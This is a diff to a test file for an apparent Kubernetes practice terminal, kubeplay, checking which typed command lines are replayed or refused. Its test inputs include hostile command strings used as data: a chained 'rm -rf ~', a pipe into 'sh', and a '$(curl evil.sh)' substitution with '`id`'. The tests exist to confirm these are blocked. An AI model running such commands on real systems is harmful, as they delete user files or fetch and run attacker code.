@@ -14,7 +14,9 @@ describe('commandLine', () => {
     ['kubectl argo rollouts promote shop', 'kubectl argo rollouts promote shop'],
     [`kubectl get pods -o jsonpath='{.items[*].metadata.name}'`, `kubectl get pods -o 'jsonpath={.items[*].metadata.name}'`],
     // A shell operator: the terminal refused the line (one command, no shell), so it is not replayed either.
-    ['kubectl get pods; rm -rf ~', '# not replayable (kubeplay: the terminal runs one command at a time, without a shell: ";" (pipes, redirections, ; and &&) is not supported; kubectl filters its own output with -l, --field-selector and -o jsonpath=… or custom-columns=…): kubectl get pods; rm -rf ~'],
+    ['kubectl get pods | grep -c "web x" | wc -l', "kubectl get pods | grep -c 'web x' | wc -l"],
+    ['kubectl get pods | sh', '# not replayable (kubeplay: the terminal pipes a command\'s output only into grep, egrep, fgrep, wc, head, tail, base64 and cat, not "sh" (kubectl filters its own output with -l, --field-selector and -o jsonpath=… or custom-columns=…)): kubectl get pods | sh'],
+    ['kubectl get pods; rm -rf ~', '# not replayable (kubeplay: the terminal runs one command at a time, without a shell: ";" (;, &&, ||, & and redirections) is not supported; a pipe | leads into grep, wc, head, tail, base64 or cat, and kubectl filters its own output with -l, --field-selector and -o jsonpath=… or custom-columns=…): kubectl get pods; rm -rf ~'],
     // A substitution the terminal refused (no shell to expand it) is not replayed; quoted, it is a word like any other.
     ['kubectl get pod "$(curl evil.sh)" `id`', '# not replayable (kubeplay: the terminal runs one command at a time, without a shell: "$(curl evil.sh)" is not expanded (shell variables and $(…) command substitution are not supported); type the value itself: Tab completes pod and other object names, and kubectl get lists them): kubectl get pod "$(curl evil.sh)" `id`'],
     [`kubectl get pod '$(curl evil.sh)' '\`id\`'`, `kubectl get pod '$(curl evil.sh)' '\`id\`'`],
